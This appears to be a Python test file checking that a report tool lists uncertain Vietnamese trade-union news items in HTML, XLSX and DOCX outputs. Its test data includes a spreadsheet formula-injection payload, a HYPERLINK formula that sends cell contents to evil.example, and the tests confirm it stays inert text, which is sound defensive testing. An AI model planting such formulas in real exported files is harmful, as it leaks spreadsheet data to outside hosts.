"""The items the tool is unsure of, with its Vietnamese reasons, in every format people read:
the HTML section, the XLSX sheet and the DOCX appendix; a hostile title stays text in each."""

from __future__ import annotations

import docx
import lxml.html
import openpyxl
import pytest
from docx.enum.section import WD_ORIENT
from helpers.reports_fixture import BYLINE_FLAG, DATE_FLAG, UNSURE, WORDS_FLAG, make_month

from reports.docx_report import UNSURE_ROWS
from reports.reasons import group_digits
from reports.render import write_month
from reports.xlsx import UNSURE_SHEET

HEADING = "Mục cần kiểm tra lại (công cụ chưa chắc chắn)"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"<b>bấm</b>")'
CONTROL = "=1+1 Hội nghị\x01 người lao động\x0b"  # control characters XML cannot hold
REASON_HEADER = "Lý do công cụ chưa chắc chắn"
WORDS_SHOWN = group_digits(WORDS_FLAG)  # "… sát ngưỡng 1.000 chữ …": counts carry separators
ADDED = {"/chua-chac-0", "/chua-chac-1"}


def _add_unsure(store, n: int, *, titles: tuple[str, ...] = ()) -> list[str]:
    """``n`` more website items of May the tool is unsure of (the first ones with ``titles``);
    returns their keys."""
    keys = []
    with store.transaction():
        for i in range(n):
            key = f"/chua-chac-{i}"
            store.upsert_item({
                "source": "website", "key": key, "url": f"https://congdoanhatinh.vn{key}",
                "title": titles[i] if i < len(titles) else f"Hội nghị người lao động số {i}",
                "published_utc": f"2025-05-{1 + i % 28:02d}T02:00:00Z", "local_date": f"2025-05-{1 + i % 28:02d}",
                "date_source": "json-ld", "kind": "news", "kind_reason": "default (news)",
                "unit_id": "ldld-can-loc", "unit_reason": "byline names «LĐLĐ huyện Can Lộc»",
                "flags": [BYLINE_FLAG],
            })  # fmt: skip
            keys.append(key)
    return keys


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    base = tmp_path_factory.mktemp("unsure")
    store, config, _db = make_month(base)
    _add_unsure(store, 2, titles=(HOSTILE, CONTROL))
    paths = write_month(store, config, "2025-05", base / "out", {"html", "xlsx", "docx"})
    store.close()
    return paths


# ---------------------------------------------------------------- HTML
def _unsure_rows(page) -> dict[str, lxml.html.HtmlElement]:
    """KEY -> row of the unsure table."""
    table = page.cssselect("table.unsure")
    assert len(table) == 1
    return {row.cssselect("code")[0].text: row for row in table[0].cssselect("tbody tr")}


def test_html_lists_unsure_items_with_their_reasons(written):
    text = written["html"].read_text(encoding="utf-8")
    page = lxml.html.fromstring(text)
    heading = next(h for h in page.cssselect("#chat-luong h3") if HEADING in h.text_content())
    assert f"{len(UNSURE) + 2} tin, bài" in heading.text_content()
    rows = _unsure_rows(page)
    assert set(rows) == {*UNSURE, *ADDED}
    tin2 = rows["/tin-2"]
    cells = {td.get("data-label"): td.text_content().strip() for td in tin2.cssselect("td[data-label]")}
    assert cells["Ngày đăng"] == "02/05/2025"
    assert cells["Nguồn"] == "Website" and cells["Loại"] == "Tin"
    assert cells["Đơn vị"] == "LĐLĐ huyện Kỳ Anh"
    assert BYLINE_FLAG in cells[REASON_HEADER] and WORDS_SHOWN in cells[REASON_HEADER]
    link = tin2.cssselect("td.title a")[0]
    assert link.get("href") == "https://congdoanhatinh.vn/tin-2" and link.text == "Tin /tin-2"
    assert DATE_FLAG in rows["/tin-10"].text_content()
    # the hostile title is text: escaped in the source, no element made of it
    assert "<b>bấm</b>" not in text and "&lt;b&gt;bấm&lt;/b&gt;" in text
    assert rows["/chua-chac-0"].cssselect("td.title a")[0].text == HOSTILE
    assert not rows["/chua-chac-0"].cssselect("b")
    assert f"{len(UNSURE) + 2} tin, bài công cụ chưa chắc chắn, cần kiểm tra lại" in text


def test_html_collapses_a_long_list(tmp_path):
    store, config, _db = make_month(tmp_path)
    _add_unsure(store, 12)
    html = write_month(store, config, "2025-05", tmp_path / "out", {"html"})["html"]
    store.close()
    page = lxml.html.fromstring(html.read_text(encoding="utf-8"))
    table = page.cssselect("table.unsure")[0]
    details = next(a for a in table.iterancestors() if a.tag == "details")
    n = 12 + len(UNSURE)
    assert details.get("open") is None  # closed: the section reads as a count
    assert details.cssselect("summary")[0].text_content() == f"Xem {n} mục cần kiểm tra lại"
    assert len(table.cssselect("tbody tr")) == n  # every item is in it


# ---------------------------------------------------------------- XLSX
def test_xlsx_sheet_lists_unsure_items_and_keeps_a_hostile_title_text(written):
    wb = openpyxl.load_workbook(written["xlsx"])
    ws = wb[UNSURE_SHEET]
    header = [c.value for c in ws[1]]
    assert header[:6] == ["Ngày đăng", "Tiêu đề", "Nguồn", "Loại", "Đơn vị", REASON_HEADER]
    key_col = header.index("Mã (KEY)")
    rows = {r[key_col].value: r for r in ws.iter_rows(min_row=2)}
    assert set(rows) == {*UNSURE, *ADDED}
    tin2 = rows["/tin-2"]
    assert tin2[0].value.strftime("%d/%m/%Y") == "02/05/2025" and tin2[0].number_format == "dd/mm/yyyy"
    assert [c.value for c in tin2[1:5]] == ["Tin /tin-2", "Website", "Tin", "LĐLĐ huyện Kỳ Anh"]
    assert BYLINE_FLAG in tin2[5].value and WORDS_SHOWN in tin2[5].value
    assert DATE_FLAG in rows["/tin-10"][5].value
    hostile = rows["/chua-chac-0"][1]
    assert hostile.value == HOSTILE
    assert hostile.data_type == "s" and hostile.quotePrefix  # text, never a formula
    assert rows["/chua-chac-0"][header.index("Đường dẫn")].hyperlink.target.endswith("/chua-chac-0")
    summary = {r[0]: r[1] for r in wb["Tổng hợp"].iter_rows(values_only=True) if isinstance(r[0], str)}
    assert summary["Cần kiểm tra lại (công cụ chưa chắc chắn)"] == len(UNSURE) + 2
    control = rows["/chua-chac-1"][1]  # the control characters dropped, then kept as text
    assert control.value == "=1+1 Hội nghị người lao động" and control.quotePrefix


# ---------------------------------------------------------------- DOCX
def _appendix(path):
    d = docx.Document(path)
    tables = [t for t in d.tables if t.rows[0].cells[-1].text == REASON_HEADER]
    return d, (tables[0] if tables else None)


def test_docx_appendix_lists_unsure_items(written):
    d, table = _appendix(written["docx"])
    assert table is not None
    text = "\n".join(p.text for p in d.paragraphs)
    assert "PHỤ LỤC" in text and HEADING in text
    assert d.sections[-1].orientation == WD_ORIENT.LANDSCAPE  # the body stays portrait
    assert d.sections[0].orientation == WD_ORIENT.PORTRAIT
    rows = {r.cells[2].text: [c.text for c in r.cells] for r in table.rows[1:]}
    # not /tin-1, nor any other; control characters dropped
    assert set(rows) == {"Tin /tin-2", "Tin /tin-10", HOSTILE, "=1+1 Hội nghị người lao động"}
    assert rows["Tin /tin-2"][1] == "02/05/2025"
    assert rows["Tin /tin-2"][3:6] == ["Website", "Tin", "LĐLĐ huyện Kỳ Anh"]
    assert BYLINE_FLAG in rows["Tin /tin-2"][6] and WORDS_SHOWN in rows["Tin /tin-2"][6]
    assert DATE_FLAG in rows["Tin /tin-10"][6]
    assert "mục khác" not in text  # short enough to list whole


def test_docx_caps_a_long_list_and_points_to_the_workbook(tmp_path):
    store, config, _db = make_month(tmp_path)
    _add_unsure(store, UNSURE_ROWS + 3)
    path = write_month(store, config, "2025-05", tmp_path / "out", {"docx"})["docx"]
    april = write_month(store, config, "2025-04", tmp_path / "april", {"docx"})["docx"]
    store.close()
    d, table = _appendix(path)
    assert len(table.rows) - 1 == UNSURE_ROWS
    rest = UNSURE_ROWS + 3 + len(UNSURE) - UNSURE_ROWS
    assert f"… và {rest} mục khác — xem trang «{UNSURE_SHEET}» của tệp XLSX cùng tên." in [
        p.text for p in d.paragraphs]  # fmt: skip
    d, table = _appendix(april)  # nothing unsure in April: the annex says so, with no table
    assert table is None and len(d.sections) == 2
    assert "Không có tin, bài nào cần kiểm tra lại." in [p.text for p in d.paragraphs]
